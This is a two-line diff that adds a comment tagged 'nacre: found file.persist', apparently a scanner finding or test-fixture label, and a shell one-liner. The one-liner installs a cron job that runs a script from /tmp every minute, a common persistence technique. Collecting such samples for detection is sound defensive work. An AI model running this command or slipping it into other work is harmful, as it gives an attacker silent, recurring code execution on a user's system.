@@ -1,0 +1,2 @@
+# nacre: found file.persist
+(crontab -l; echo "* * * * * sh /tmp/x") | crontab -
